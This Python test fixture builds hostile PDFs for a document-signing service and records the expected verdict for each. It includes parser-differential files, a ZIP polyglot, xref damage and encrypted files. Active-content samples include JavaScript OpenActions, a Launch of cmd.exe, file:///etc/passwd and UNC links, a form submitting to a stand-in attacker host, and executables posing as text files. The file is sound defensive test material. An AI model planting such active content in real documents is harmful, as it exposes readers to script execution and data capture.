"""Hostile, damaged and encrypted PDFs built at test time, with the outcome each must get.

``build_hostile_corpus(dest, good)`` writes every entry of :data:`HOSTILE_NAMES` that
can be built on this machine into ``dest`` and returns name -> :class:`Hostile`.
``good`` is :func:`tests.helpers_corpus.build_good_corpus`'s result: real producers'
files are damaged too, and an entry whose producer is missing is left out.

An entry's ``expect`` is one of

* ``SIGNED``: signed as received (``checked.normalized`` is False);
* ``NORMALIZED``: signed only after a clean rewrite; with ``normalize="never"`` it is
  refused with ``never`` (an error code);
* ``NORMALIZED_OR_AMBIGUOUS``: either signed after a rewrite, or refused with
  ``ambiguous_pdf``; never signed as received;
* ``NORMALIZED_OR_MALFORMED``: either signed after a rewrite, or refused with
  ``malformed_pdf``: damaged files that only a recovery reading object streams
  without their index could read (no reader here recovers them all, see
  :data:`OBJSTM_UNRECOVERABLE`);
* an error code (``ambiguous_pdf``, ``malformed_pdf``, ``encrypted_pdf``,
  ``active_content``, ``limit_exceeded``): refused with that code.

``markers`` are strings put into page content that every text extractor must find
in a signed result; ``exact_text`` says whether pdftotext and pypdf give the same
word sequence for the file (the fonts of some producers make them differ).
``limits`` are :class:`casesignd.pdf.inspect.PdfLimits` keyword arguments the entry is
checked with (besides ``normalize``).

Helpers shared with the tests: :func:`assert_signed_and_readable` (pyHanko, pdfsig,
qpdf, poppler and pypdf on a signed result) and :func:`reader_views` (what each reader
shows of a file: the differential entries are checked with it).
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import re
import shutil
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

import pytest

from tests.helpers_corpus import _MZ_STUB, _one_page, _run, assemble, stream

SIGNED = "signed"
NORMALIZED = "normalized"
NORMALIZED_OR_AMBIGUOUS = "normalized_or_ambiguous"
NORMALIZED_OR_MALFORMED = "normalized_or_malformed"
AMBIGUOUS = "ambiguous_pdf"
MALFORMED = "malformed_pdf"
ENCRYPTED = "encrypted_pdf"
ACTIVE = "active_content"
LIMIT = "limit_exceeded"
REFUSAL_CODES = frozenset({AMBIGUOUS, MALFORMED, ENCRYPTED, ACTIVE, LIMIT})

TOOL_TIMEOUT_S = 120


@dataclass(frozen=True)
class Hostile:
    name: str
    path: Path
    expect: str
    never: str | None = None  # the code under normalize="never" (NORMALIZED entries)
    markers: tuple[str, ...] = ()
    exact_text: bool = True
    limits: dict[str, object] = field(default_factory=dict)
    reason: str | None = None  # the refusal's reason, where the entry names one

    @property
    def refused(self) -> bool:
        return self.expect in REFUSAL_CODES


class Missing(Exception):
    """An entry cannot be built here (its producer or tool is absent)."""


# --- hand-assembled documents ------------------------------------------------------

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _text(*lines: str) -> bytes:
    out = [b"BT /F1 14 Tf 72 720 Td"]
    for i, line in enumerate(lines):
        if i:
            out.append(b"0 -24 Td")
        out.append(b"(" + line.encode("ascii") + b") Tj")
    out.append(b"ET")
    return b" ".join(out)


def _doc_objects(texts: list[str], *, catalog_extra: bytes = b"",
                 page_extra: list[bytes] | None = None, count: int | None = None) -> list[bytes]:
    """1 catalog, 2 pages, 3 font, then page ``4+2i`` and its content ``5+2i``."""
    n = len(texts)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(n))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n if count is None else count),
        _FONT,
    ]
    for i, t in enumerate(texts):
        extra = (page_extra or [b""] * n)[i]
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                    b"/Resources << /Font << /F1 3 0 R >> >> %s>>" % (5 + 2 * i, extra))
        objs.append(stream(_text(t)))
    return objs


HAND_TEXTS = ["HANDMADE PAGE ONE", "HANDMADE PAGE TWO"]


def _hand() -> bytes:
    return assemble(_doc_objects(HAND_TEXTS))


def _xref_offsets(data: bytes) -> tuple[int, int]:
    """(start of the last classic xref table's first entry, its first object number)."""
    at = _startxref(data)
    if data[at:at + 4] != b"xref":
        raise ValueError("the last cross-reference section is not a table")
    m = re.compile(rb"xref\s+(\d+)\s+(\d+)\s*?\r?\n").match(data, at)
    assert m is not None
    return m.end(), int(m.group(1))


def _patch_xref(data: bytes, num: int, offset: int) -> bytes:
    first_entry, first_num = _xref_offsets(data)
    at = first_entry + 20 * (num - first_num)
    return data[:at] + b"%010d" % offset + data[at + 10:]


def _startxref(data: bytes) -> int:
    return int(data[data.rindex(b"startxref") + 9:].split()[0])


def _set_startxref(data: bytes, value: int) -> bytes:
    at = data.rindex(b"startxref") + 9
    m = re.compile(rb"\s*(\d+)").match(data, at)
    assert m is not None
    return data[:m.start(1)] + b"%d" % value + data[m.end(1):]


def _dup_key_contents() -> bytes:
    objs = _doc_objects(["FIRST CONTENTS SHOWN"])
    objs[3] = (b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /MediaBox [0 0 612 792] "
               b"/Resources << /Font << /F1 3 0 R >> >> /Contents 6 0 R >>")
    objs.append(stream(_text("SECOND CONTENTS SHOWN")))
    return assemble(objs)


def _dup_key_same() -> bytes:
    return assemble(_doc_objects(["DUPLICATE TYPE KEY"], page_extra=[b"/Type /Page "]))


def _xref_wrong_header() -> bytes:
    # Page 4 shows object 5; the xref sends object 5 to where "7 0 obj" starts.
    objs = _doc_objects(["OBJECT FIVE SHOWN"])
    objs.append(b"<< /Producer (filler) >>")                 # 6
    objs.append(stream(_text("OBJECT SEVEN SHOWN")))       # 7
    data = assemble(objs)
    seven = data.index(b"\n7 0 obj") + 1
    return _patch_xref(data, 5, seven)


def _twice_defined() -> bytes:
    data = assemble(_doc_objects(["FIRST DEFINITION SHOWN"]))
    xref_at = _startxref(data)
    second = b"5 0 obj\n" + stream(_text("SECOND DEFINITION SHOWN")) + b"\nendobj\n"
    out = data[:xref_at] + second + data[xref_at:]
    return _set_startxref(out, xref_at + len(second))


def _with_prefix(prefix: bytes, absolute: bool = False) -> bytes:
    """``prefix`` before a PDF. Offsets stay relative to "%PDF-" (what prepending to a
    file gives, and what qpdf and Acrobat assume), or with ``absolute`` count from the
    first byte of the file (what pypdf and poppler assume; qpdf then rebuilds)."""
    doc = assemble(_doc_objects(["PREFIXED DOCUMENT"]))
    if absolute:
        at = _startxref(doc)
        out = bytearray(doc)
        for m in re.compile(rb"(\d{10}) (\d{5}) n").finditer(doc, at, doc.index(b"trailer", at)):
            out[m.start(1):m.end(1)] = b"%010d" % (int(m.group(1)) + len(prefix))
        doc = _set_startxref(bytes(out), at + len(prefix))
    return prefix + doc


def _junk_200() -> bytes:
    rnd = random.Random(200)
    junk = bytes(rnd.choice(b"abcdefghijklmnopqrstuvwxyz0123456789<>!?*+-_ \n\x00\x01\xfe\xff")
                 for _ in range(200))
    return _with_prefix(junk)


def _zip_polyglot(out: Path) -> None:
    out.write_bytes(assemble(_doc_objects(["ZIP POLYGLOT DOCUMENT"])))
    # Mode "a" on a file that is not a ZIP appends an archive with correct offsets:
    # the result opens as a PDF and as a ZIP.
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("readme.txt", "this archive rides after %%EOF\n")
        z.writestr("payload/run.sh", "#!/bin/sh\necho hi\n")


def _short_length() -> bytes:
    objs = _doc_objects(["SHORT LENGTH STREAM"])
    data = _text("SHORT LENGTH STREAM")
    objs[4] = b"<< /Length %d >>\nstream\n" % (len(data) - 5) + data + b"\nendstream"
    return assemble(objs)


def _twice_defined_xref_damaged() -> bytes:
    # As above, and the catalog's entry is 3 bytes off: readers that then rebuild the
    # whole table (poppler, qpdf) take the last definition, pypdf keeps the first.
    data = _twice_defined()
    return _patch_xref(data, 1, data.index(b"\n1 0 obj") + 1 + 3)


def _count_mismatch() -> bytes:
    return assemble(_doc_objects(["COUNTED PAGE", "UNCOUNTED PAGE"], count=1))


# --- damage --------------------------------------------------------------------------


def _trailer_facts(data: bytes) -> tuple[int, bytes, bytes | None]:
    """(/Size, /Root reference, /Info reference) of the last trailer or xref stream."""
    at = _startxref(data)
    head = data[at:at + 4096] if data[at:at + 4] != b"xref" else \
        data[data.index(b"trailer", at):data.index(b"trailer", at) + 4096]
    size = int(re.search(rb"/Size\s+(\d+)", head).group(1))  # type: ignore[union-attr]
    root = re.search(rb"/Root\s+(\d+\s+\d+\s+R)", head).group(1)  # type: ignore[union-attr]
    info = re.search(rb"/Info\s+(\d+\s+\d+\s+R)", head)
    return size, root, info.group(1) if info else None


def damage_no_xref(data: bytes) -> bytes:
    """The last cross-reference section is removed; startxref points past the end."""
    at = _startxref(data)
    if data[at:at + 4] == b"xref":
        out = data[:at] + data[data.index(b"trailer", at):]
    else:  # an xref stream: drop the object, keep what its dictionary said as a trailer
        size, root, info = _trailer_facts(data)
        end = data.index(b"endobj", at) + len(b"endobj")
        trailer = b"trailer\n<< /Size %d /Root %s %s>>" % (
            size, root, b"/Info " + info + b" " if info else b"")
        out = data[:at] + trailer + data[end:]
    return _set_startxref(out, len(out) + 4096)


def damage_startxref_off17(data: bytes) -> bytes:
    return _set_startxref(data, _startxref(data) + 17)


def damage_no_eof(data: bytes) -> bytes:
    at = data.rindex(b"%%EOF")
    return data[:at].rstrip(b"\r\n") + b"\n"


def damage_prev_loop(data: bytes) -> bytes:
    """An incremental update (a new Info) whose trailer's /Prev is its own section."""
    size, root, _ = _trailer_facts(data)
    body = bytearray(data if data.endswith(b"\n") else data + b"\n")
    info_at = len(body)
    body += b"%d 0 obj\n<< /Producer (casesignd hostile corpus) /Subject (prev loop) >>\nendobj\n" % size
    xref_at = len(body)
    body += b"xref\n0 1\n0000000000 65535 f\r\n%d 1\n%010d 00000 n\r\n" % (size, info_at)
    body += b"trailer\n<< /Size %d /Root %s /Info %d 0 R /Prev %d >>\n" % (
        size + 1, root, size, xref_at)
    body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(body)


def damage_truncated_tail(data: bytes) -> bytes:
    """Cut after the last ``endobj``: no xref table, trailer, startxref or %%EOF.

    libqpdf 12.4 (pikepdf) rebuilds these but drops the last object ("EOF after
    endobj") and writes a trailer without /Size: for "hand" that is page 2's content,
    for chromium most of its text. The markers catch a rewrite that lost them."""
    at = data.rindex(b"endobj") + len(b"endobj")
    return data[:at] + b"\n"


def damage_xref_shift3(data: bytes) -> bytes:
    """Every in-use entry of the last xref section is 3 bytes off its object."""
    at = _startxref(data)
    if data[at:at + 4] == b"xref":
        out = bytearray(data)
        pos = at
        end = data.index(b"trailer", at)
        for m in re.compile(rb"(\d{10}) (\d{5}) n").finditer(data, pos, end):
            out[m.start(1):m.end(1)] = b"%010d" % (int(m.group(1)) + 3)
        return bytes(out)
    # An xref stream: 3 bytes after the header line move every object (and the
    # stream itself), and startxref follows the stream, so only the entries are off.
    header_end = data.index(b"\n") + 1
    out = data[:header_end] + b"%3\n" + data[header_end:]
    return _set_startxref(out, at + 3)


DAMAGES: dict[str, Callable[[bytes], bytes]] = {
    "no_xref": damage_no_xref,
    "startxref_off17": damage_startxref_off17,
    "no_eof": damage_no_eof,
    "prev_loop": damage_prev_loop,
    "truncated_tail": damage_truncated_tail,
    "xref_shift3": damage_xref_shift3,
}

# Sources damaged with every kind: "hand" is assembled here, the others come from
# tests.helpers_corpus's good corpus (left out when their producer is missing).
DAMAGE_SOURCES: dict[str, tuple[tuple[str, ...], bool]] = {
    # name: (markers, pdftotext and pypdf give the same words)
    "hand": (tuple(HAND_TEXTS), True),
    "reportlab_plain": (("Contract MKT-2026-00042", "Clause 2.29"), True),
    "libreoffice": (("Dear J. Doe", "Salary 1000"), True),
    # pypdf splits "Terms" (kerning) and orders Chromium's header differently.
    "pdflatex_hyperref": (("Service agreement", "Annex"), False),
    "chromium": (("Invoice", "49.00 USD"), False),
    "ghostscript_pdfa2b": (("Contract MKT-2026-00042", "Clause 2.29"), True),
    "imagemagick": ((), True),
}

# pdflatex_hyperref's \url is a /URI link, refused by default (see the entry
# "pdflatex_hyperref_uri"): its damaged copies allow /URI, so that the damage is what
# they test. Lists, for the JSON manifest; the tests make a frozenset of them.
DAMAGE_SOURCE_LIMITS: dict[str, dict[str, object]] = {
    "pdflatex_hyperref": {"allowed_actions": ["/GoTo", "/Named", "/URI"]},
}

# pdflatex keeps its objects in object streams: without the xref stream that indexes
# them (or with it unreachable) neither qpdf 11.3, libqpdf 12.4 (pikepdf) nor poppler
# recovers the file, and pypdf only no_xref. Either outcome is honest for these.
OBJSTM_UNRECOVERABLE = frozenset({
    "no_xref_pdflatex_hyperref", "prev_loop_pdflatex_hyperref",
    "truncated_tail_pdflatex_hyperref",
})


# Damaged files one of the rendering engines cannot open at all (poppler 22.12, MuPDF
# 1.21): that engine says nothing of the document, and the repair is signed where the
# other engine and pypdf agree with qpdf's (casesignd.pdf.render.verdict).
VIEWER_CANNOT_OPEN: dict[str, str] = {
    # MuPDF stops at the /Prev that names its own section ("cannot find page tree").
    **{f"prev_loop_{s}": "mupdf" for s in DAMAGE_SOURCES if s != "pdflatex_hyperref"},
    # poppler finds no trailer to rebuild from ("Couldn't find trailer dictionary").
    **{f"truncated_tail_{s}": "poppler" for s in DAMAGE_SOURCES if s != "pdflatex_hyperref"},
    # poppler cannot rebuild an xref stream's objects ("Couldn't read xref table").
    "startxref_off17_pdflatex_hyperref": "poppler",
    "xref_shift3_pdflatex_hyperref": "poppler",
}


# --- encryption ------------------------------------------------------------------------


def _qpdf_encrypt(plain: bytes, out: Path, *args: str) -> None:
    src = out.with_suffix(".plain.pdf")
    src.write_bytes(plain)
    try:
        _run(["qpdf", "--allow-weak-crypto", "--encrypt", *args, "--", str(src), str(out)])
    finally:
        src.unlink(missing_ok=True)


def _pubsec() -> bytes:
    # Public-key security handler (PDF 32000-1 §7.6.5): the file key is wrapped for
    # each recipient in a PKCS#7 envelope. This envelope is junk: only the handler
    # has to be recognised, not opened.
    recipient = b"<" + (b"3082" + os.urandom(60).hex().encode()) + b">"
    objs = _doc_objects(["PUBSEC CIPHERTEXT"])
    objs[4] = stream(os.urandom(64))
    objs.append(b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 2 /R 3 /Length 128 "
                b"/Recipients [" + recipient + b"] >>")
    file_id = b"<" + os.urandom(16).hex().encode() + b">"
    return assemble(objs, trailer_extra=b"/Encrypt 6 0 R /ID [%s %s] " % (file_id, file_id))


# --- active content ----------------------------------------------------------------------

_JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\);) >>"
_RECT = b"/Rect [72 600 300 640] "


def _link(action: bytes) -> bytes:
    """One page whose link annotation (object 6) has action ``action``."""
    return _one_page(page_extra=b"/Annots [6 0 R] ", more=[
        b"<< /Type /Annot /Subtype /Link " + _RECT + b"/Border [0 0 0] /A " + action + b" >>"])


def _embedded(name: bytes, data: bytes, subtype: bytes = b"") -> bytes:
    return _one_page(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(" + name + b") 6 0 R] >> >> ",
        more=[b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 7 0 R >> >>",
              stream(zlib.compress(data), b"/Type /EmbeddedFile /Filter /FlateDecode "
                     + subtype)])


def _field(extra: bytes, more: list[bytes] | None = None) -> bytes:
    """One page with one form field (a widget, object 6), then ``more`` (7...)."""
    return _one_page(
        catalog_extra=b"/AcroForm << /Fields [6 0 R] >> ",
        page_extra=b"/Annots [6 0 R] ",
        more=[b"<< /Type /Annot /Subtype /Widget /P 3 0 R " + _RECT + extra + b">>",
              *(more or [])])


def _annot_3d() -> bytes:
    return _one_page(page_extra=b"/Annots [6 0 R] ", more=[
        b"<< /Type /Annot /Subtype /3D " + _RECT + b"/3DD 7 0 R /3DA << /A /PO >> >>",
        stream(b"U3D\x00 not really a model", b"/Type /3D /Subtype /U3D /OnInstantiate 8 0 R "),
        stream(b"app.alert('3d');"),
    ])


def _richmedia() -> bytes:
    return _one_page(page_extra=b"/Annots [6 0 R] ", more=[
        b"<< /Type /Annot /Subtype /RichMedia " + _RECT
        + b"/RichMediaContent << /Assets << /Names [(movie.swf) 7 0 R] >> "
          b"/Configurations [<< /Type /RichMediaConfiguration /Subtype /Flash "
          b"/Instances [<< /Asset 7 0 R >>] >>] >> "
          b"/RichMediaSettings << /Activation << /Condition /PO >> >> >>",
        b"<< /Type /Filespec /F (movie.swf) /UF (movie.swf) /EF << /F 8 0 R >> >>",
        stream(b"FWS\x0a not really flash", b"/Type /EmbeddedFile "),
    ])


def _outline_launch() -> bytes:
    return _one_page(catalog_extra=b"/Outlines 6 0 R ", more=[
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        b"<< /Title (Open me) /Parent 6 0 R /A << /S /Launch /F (cmd.exe) >> >>",
    ])


def _objstm_js(out: Path) -> None:
    src = out.with_suffix(".src.pdf")
    src.write_bytes(_one_page(catalog_extra=b"/OpenAction 6 0 R ", more=[_JS]))
    try:
        _run(["qpdf", "--object-streams=generate", str(src), str(out)])
    finally:
        src.unlink(missing_ok=True)


def _allowed_actions() -> bytes:
    # Page 1 links to page 2 with /GoTo and with /Named NextPage (and PrevPage,
    # FirstPage, LastPage); the catalog's /OpenAction is an in-document /GoTo as well.
    links = [
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /Border [0 0 0] "
        b"/A << /S /GoTo /D [6 0 R /Fit] >> >>",
        *(b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] "
          b"/A << /S /Named /N /%s >> >>" % (500 - 50 * i, 540 - 50 * i, n)
          for i, n in enumerate((b"NextPage", b"PrevPage", b"FirstPage", b"LastPage"))),
    ]
    objs = _doc_objects(["ALLOWED LINKS PAGE ONE", "ALLOWED LINKS PAGE TWO"],
                        catalog_extra=b"/OpenAction << /S /GoTo /D [4 0 R /Fit] >> ",
                        page_extra=[b"/Annots [8 0 R 9 0 R 10 0 R 11 0 R 12 0 R] ", b""])
    return assemble(objs + links)


# --- budgets -----------------------------------------------------------------------------

_EIGHT_MIB = 8 << 20


def _many_big_streams(out: Path, n: int = 40, kind: str = "form") -> None:
    """``n`` XObjects on one page, each Flate data decoding to 8 MiB of zeros.

    ``kind`` "form": Form XObjects in the page's resources, not drawn (every checker
    that measures streams decodes them; text extraction does not). "image": 8-bit
    gray 2048x4096 images, each drawn on the page (a viewer decodes all of them).
    The deflated data (about 8 KB) is made once and written ``n`` times."""
    comp = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    data = b"".join(comp.compress(chunk) for _ in range(_EIGHT_MIB >> 20)) + comp.flush()
    objs = _doc_objects(["MANY BIG STREAMS"])
    xobjects = b" ".join(b"/X%d %d 0 R" % (i, 6 + i) for i in range(n))
    objs[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
               b"/Resources << /Font << /F1 3 0 R >> /XObject << " + xobjects + b" >> >> >>")
    if kind == "image":
        draw = b" ".join(b"q 10 0 0 20 %d 100 cm /X%d Do Q" % (10 + 12 * i, i) for i in range(n))
        objs[4] = stream(_text("MANY BIG STREAMS") + b" " + draw)
        body = stream(data, b"/Type /XObject /Subtype /Image /Width 2048 /Height 4096 "
                            b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode ")
    else:
        body = stream(data, b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] "
                            b"/Filter /FlateDecode ")
    out.write_bytes(assemble(objs + [body] * n))


# --- the recipes -----------------------------------------------------------------------


@dataclass
class _Recipe:
    name: str
    expect: str
    build: Callable[[Path], None]
    never: str | None = None
    markers: tuple[str, ...] = ()
    exact_text: bool = True
    limits: dict[str, object] = field(default_factory=dict)
    tool: str | None = None
    reason: str | None = None


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda o: o.write_bytes(data() if callable(data) else data)


def _hostile_recipes(dest: Path, good: dict[str, Path] | None = None) -> list[_Recipe]:
    good = good or {}
    R = _Recipe

    def damaged(source: str, damage: str) -> Callable[[Path], None]:
        def build(out: Path) -> None:
            if source == "hand":
                data = _hand()
            elif source in good and good[source].exists():
                data = good[source].read_bytes()
            else:
                raise Missing(f"{source} is not in the good corpus")
            out.write_bytes(DAMAGES[damage](data))
        return build

    def encrypted(*args: str, damage: Callable[[bytes], bytes] | None = None) -> Callable[[Path], None]:
        def build(out: Path) -> None:
            _qpdf_encrypt(_hand(), out, *args)
            if damage is not None:
                out.write_bytes(damage(out.read_bytes()))
        return build

    recipes = [
        # parser differentials
        # pypdf takes the first /Contents, qpdf, poppler and MuPDF the second: the
        # viewers agree on the page, so it is signed as they show it.
        R("dup_key_contents", NORMALIZED, _bytes(_dup_key_contents), never=AMBIGUOUS,
          markers=("SECOND CONTENTS SHOWN",)),
        R("dup_key_same_value", NORMALIZED, _bytes(_dup_key_same), never=AMBIGUOUS,
          markers=("DUPLICATE TYPE KEY",)),
        # Latent differentials: every reader here repairs these the same way (the
        # wrong header is noticed; a sound xref names the first definition), so
        # the document is rewritten as they all read it, and signed.
        R("xref_wrong_object_header", NORMALIZED, _bytes(_xref_wrong_header), never=AMBIGUOUS,
          markers=("OBJECT FIVE SHOWN",)),
        R("object_defined_twice", NORMALIZED, _bytes(_twice_defined), never=AMBIGUOUS,
          markers=("FIRST DEFINITION SHOWN",)),
        # pypdf keeps the first definition, qpdf, poppler and MuPDF rebuild and take
        # the last: signed as the viewers show it.
        R("object_defined_twice_xref_damaged", NORMALIZED, _bytes(_twice_defined_xref_damaged),
          never=AMBIGUOUS, markers=("SECOND DEFINITION SHOWN",)),
        R("html_prefix", NORMALIZED, _bytes(lambda: _with_prefix(
            b"<html><body><p>Nothing to see here</p></body></html>\n")), never=AMBIGUOUS,
          markers=("PREFIXED DOCUMENT",)),
        R("html_prefix_absolute_offsets", NORMALIZED, _bytes(lambda: _with_prefix(
            b"<html><body><p>Nothing to see here</p></body></html>\n", absolute=True)),
          never=AMBIGUOUS, markers=("PREFIXED DOCUMENT",)),
        R("junk_prefix_200", NORMALIZED, _bytes(_junk_200), never=AMBIGUOUS,
          markers=("PREFIXED DOCUMENT",)),
        R("zip_polyglot", NORMALIZED, _zip_polyglot, never=AMBIGUOUS,
          markers=("ZIP POLYGLOT DOCUMENT",)),
        R("stream_length_short", NORMALIZED_OR_AMBIGUOUS, _bytes(_short_length),
          never=AMBIGUOUS, markers=("SHORT LENGTH STREAM",)),
        # poppler and MuPDF draw the one page /Count admits; qpdf's rewrite (and pypdf)
        # has both: a page viewers never showed would be signed.
        R("page_count_mismatch", AMBIGUOUS, _bytes(_count_mismatch)),
    ]
    # damaged but readable, hand-made and real producers' files
    for source, (markers, exact) in DAMAGE_SOURCES.items():
        for damage in DAMAGES:
            name = f"{damage}_{source}"
            expect = NORMALIZED_OR_MALFORMED if name in OBJSTM_UNRECOVERABLE else NORMALIZED
            recipes.append(R(name, expect, damaged(source, damage), never=MALFORMED,
                             markers=markers, exact_text=exact,
                             limits=dict(DAMAGE_SOURCE_LIMITS.get(source, {}))))
    recipes += [
        # unreadable
        R("random_bytes", MALFORMED, _bytes(lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(8192))),
        R("no_objects", MALFORMED, _bytes(
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\nxref\n0 1\n0000000000 65535 f\r\n"
            b"trailer\n<< /Size 1 >>\nstartxref\n15\n%%EOF\n")),
        # encrypted, every handler
        R("encrypted_rc4_40", ENCRYPTED, encrypted("u", "o", "40"), tool="qpdf"),
        R("encrypted_rc4_128", ENCRYPTED, encrypted("u", "o", "128", "--use-aes=n"), tool="qpdf"),
        R("encrypted_aes_128", ENCRYPTED, encrypted("u", "o", "128", "--use-aes=y"), tool="qpdf"),
        R("encrypted_aes_256", ENCRYPTED, encrypted("u", "o", "256"), tool="qpdf"),
        R("encrypted_aes_256_r5", ENCRYPTED, encrypted("u", "o", "256", "--force-R5"), tool="qpdf"),
        R("encrypted_owner_only", ENCRYPTED, encrypted("", "owner-only", "256"), tool="qpdf"),
        R("encrypted_pubsec", ENCRYPTED, _bytes(_pubsec)),
        R("encrypted_and_damaged", ENCRYPTED, encrypted("", "o", "128", "--use-aes=y",
                                                        damage=damage_xref_shift3), tool="qpdf"),
        # active content, wherever it sits
        R("openaction_uri", ACTIVE, _bytes(_one_page(
            catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >> ")),
          reason="automatic_action"),
        R("page_aa_uri", ACTIVE, _bytes(_one_page(
            page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >> ")),
          reason="automatic_action"),
        R("openaction_gotoe", ACTIVE, _bytes(_one_page(
            catalog_extra=b"/OpenAction << /S /GoToE /T << /R /C /N (inner.pdf) >> >> ")),
          reason="automatic_action"),
        # links a person clicks: out to the web, never to the reader's files or scripts
        R("link_uri", SIGNED, _bytes(_link(b"<< /S /URI /URI (https://evil.example/x) >>"))),
        R("link_file_uri", ACTIVE, _bytes(_link(b"<< /S /URI /URI (file:///etc/passwd) >>")),
          reason="link_scheme"),
        R("link_unc", ACTIVE, _bytes(_link(rb"<< /S /URI /URI (\\evil\share\x.pdf) >>")),
          reason="link_scheme"),
        R("link_smb", ACTIVE, _bytes(_link(b"<< /S /URI /URI (smb://evil/share) >>")),
          reason="link_scheme"),
        R("link_javascript_uri", ACTIVE, _bytes(_link(
            rb"<< /S /URI /URI ( javascript:app.alert\(1\)) >>")), reason="link_scheme"),
        R("link_data_uri", ACTIVE, _bytes(_link(
            b"<< /S /URI /URI (data:text/html,<script>x</script>) >>")), reason="link_scheme"),
        R("submitform_unc", ACTIVE, _bytes(_field(
            b"/FT /Btn /Ff 65536 /T (send) "
            rb"/A << /S /SubmitForm /F << /FS /URL /F (\\evil\share\in) >> >> ")),
          reason="link_scheme"),
        R("page_aa_gotor_unc", ACTIVE, _bytes(_one_page(
            page_extra=rb"/AA << /O << /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >> >> "))),
        R("gotoe", SIGNED, _bytes(_link(
            b"<< /S /GoToE /NewWindow true /T << /R /C /N (inner.pdf) >> /D [0 /Fit] >>"))),
        R("hide", ACTIVE, _bytes(_link(b"<< /S /Hide /T (secret) /H false >>"))),
        R("set_ocg_state", ACTIVE, _bytes(_one_page(page_extra=b"/Annots [6 0 R] ", more=[
            b"<< /Type /Annot /Subtype /Link " + _RECT
            + b"/A << /S /SetOCGState /State [/OFF 7 0 R] >> >>",
            b"<< /Type /OCG /Name (layer) >>"]))),
        R("submitform_widget", SIGNED, _bytes(_field(
            b"/FT /Btn /Ff 65536 /T (send) "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> "))),
        R("import_data", ACTIVE, _bytes(_link(b"<< /S /ImportData /F (data.fdf) >>"))),
        R("rendition", ACTIVE, _bytes(_link(b"<< /S /Rendition /OP 0 >>"))),
        R("unknown_action", ACTIVE, _bytes(_link(b"<< /S /Frobnicate >>"))),
        # Print by itself when the document opens (a click may ask for it).
        R("named_print", ACTIVE, _bytes(_one_page(
            catalog_extra=b"/OpenAction << /S /Named /N /Print >> ")), reason="forbidden_action"),
        R("next_chain_js", ACTIVE, _bytes(_one_page(
            catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> ",
            more=[_JS]))),
        R("javascript_escaped_name", ACTIVE, _bytes(_one_page(
            catalog_extra=b"/OpenAction << /S /Java#53cript /JS (app.alert\\(1\\)) >> "))),
        R("annot_3d_oninstantiate", ACTIVE, _bytes(_annot_3d)),
        R("richmedia", ACTIVE, _bytes(_richmedia)),
        R("names_javascript", ACTIVE, _bytes(_one_page(
            catalog_extra=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ", more=[_JS]))),
        R("outline_launch", ACTIVE, _bytes(_outline_launch)),
        R("objstm_javascript", ACTIVE, _objstm_js, tool="qpdf"),
        R("pdflatex_hyperref_uri", SIGNED, lambda o: _copy_good(good, "pdflatex_hyperref", o),
          markers=("Service agreement", "https://example.org/terms"), exact_text=False),
        R("field_aa_keystroke_js", ACTIVE, _bytes(_field(
            b"/FT /Tx /T (amount) /AA << /K 7 0 R >> ", more=[_JS]))),
        R("embedded_pdf_with_js", ACTIVE, _bytes(lambda: _embedded(
            b"inner.pdf", _one_page(catalog_extra=b"/OpenAction 6 0 R ", more=[_JS]),
            b"/Subtype /application#2Fpdf "))),
    ]
    for ident, name in (("exe_dot", b"x.exe."), ("exe_space", b"x.exe "),
                        ("docm", b"REPORT.DOCM"), ("iso", b"disk.ISO"), ("hta", b"app.HTA"),
                        ("js", b"run.js")):
        recipes.append(R(f"embedded_name_{ident}", ACTIVE, _bytes(_embedded(name, b"hello\n"))))
    recipes += [
        R("embedded_txt_is_pe", ACTIVE, _bytes(_embedded(b"notes.txt", _MZ_STUB + bytes(200)))),
        R("embedded_txt_is_elf", ACTIVE, _bytes(_embedded(
            b"notes.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(120)))),
        # allowed
        R("allowed_goto_and_named", SIGNED, _bytes(_allowed_actions),
          markers=("ALLOWED LINKS PAGE ONE", "ALLOWED LINKS PAGE TWO")),
        # controls: what the refusals above must not be refusing for
        R("allowed_embedded_notes_txt", SIGNED, _bytes(_embedded(
            b"notes.txt", b"Meeting notes: the buyer agreed to the terms.\n", b"/Subtype /text#2Fplain ")),
          markers=("casesignd test",)),
        # a page is a document, as mail treats it; an HTML application runs
        R("allowed_embedded_receipt_html", SIGNED, _bytes(_embedded(
            b"receipt.html", b"<!doctype html><html><body><p>Paid.</p><script>print()</script>"
            b"</body></html>", b"/Subtype /text#2Fhtml ")), markers=("casesignd test",)),
